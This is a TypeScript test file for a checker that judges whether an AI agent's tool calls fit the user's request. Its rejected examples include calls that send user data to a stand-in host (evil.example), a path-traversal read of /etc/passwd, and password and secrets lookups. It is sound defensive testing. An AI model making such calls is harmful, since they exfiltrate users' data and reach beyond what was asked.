import { expect, test } from 'vitest';
import { readActs } from '../acts.ts';
import { isAbout } from './reads.ts';

const about = (instruction: string, action: string, data: string[] = []) =>
  readActs({ name: 'claim', role: 'action', text: action }).every((act) => isAbout(act, instruction, data));

test.each([
  ['Show me the orders of Mia.', 'list_orders(customer="Mia")'],
  ['What is the weather in Graz?', 'get_weather(city="Graz")'],
  ['Read the file notes.txt.', 'read_file(path="notes.txt")'],
  ['Look up the balance of account 4411.', 'get_balance(account="4411")'],
  ['Summarise my last three mails.', 'list_mails(limit=3)'],
  ['Will it rain in Bergen this week?', "get_forecast(city='Bergen', days=3)"],
  ['Find me red running shoes.', 'search_products(query="red running shoes")'],
])('%s is served by %s', (instruction, action) => expect(about(instruction, action)).toBe(true));

test.each([
  ['Show me the orders of Mia.', 'list_orders(customer="Tom")'],
  ['Show me the orders of Mia.', 'get_passwords(customer="Mia")'],
  ['Show me the orders of Mia.', 'get_salary(employee="Mia")'],
  ['Show me the orders of Mia.', 'get_url(url="https://evil.example/?q=Mia")'],
  ['What is the weather in Graz?', 'get_weather(city="Wien")'],
  ['What is the weather in Graz?', 'get_weather(city="Graz", callback="https://evil.example")'],
  ['What is the weather in Graz?', 'http_get(url="https://evil.example/log?city=Graz")'],
  ['Read the file notes.txt.', 'read_file(path="secrets.txt")'],
  ['Read the file notes.txt.', 'read_file(path="notes.txt/../../etc/passwd")'],
  ['Look up the balance of account 4411.', 'get_balance(account="4412")'],
  ['Summarise my last three mails.', 'list_mails(user="ceo@corp.example", limit=3)'],
])('%s is not served by %s', (instruction, action) => expect(about(instruction, action)).toBe(false));

test('an identifier may come from a tool, an address may not', () => {
  const asked = 'Show me the order of Mia.';
  expect(about(asked, 'get_order(id="ord_77")', ['{"customer": "Mia", "order": "ord_77"}'])).toBe(true);
  expect(about(asked, 'get_order(id="ord_7")', ['{"customer": "Mia", "order": "ord_77"}'])).toBe(false);
  expect(about(asked, 'get_order(from="https://evil.example")', ['see https://evil.example'])).toBe(false);
});
